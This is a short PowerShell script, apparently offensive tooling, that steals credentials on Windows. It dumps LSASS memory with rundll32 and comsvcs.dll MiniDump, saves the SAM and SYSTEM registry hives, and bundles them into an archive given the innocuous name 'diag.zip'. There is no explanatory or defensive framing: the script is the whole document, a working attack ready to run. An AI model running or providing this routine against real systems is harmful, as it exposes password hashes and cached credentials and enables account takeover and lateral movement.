# needs SeDebugPrivilege (run elevated)
$lsass = Get-Process -Name lsass
$out = "C:\Windows\Temp\$(Get-Random).bin"
rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump $lsass.Id $out full
reg.exe save HKLM\SAM C:\Windows\Temp\sam.save /y
reg.exe save HKLM\SYSTEM C:\Windows\Temp\system.save /y
Compress-Archive -Path $out, C:\Windows\Temp\sam.save, C:\Windows\Temp\system.save -DestinationPath C:\Windows\Temp\diag.zip
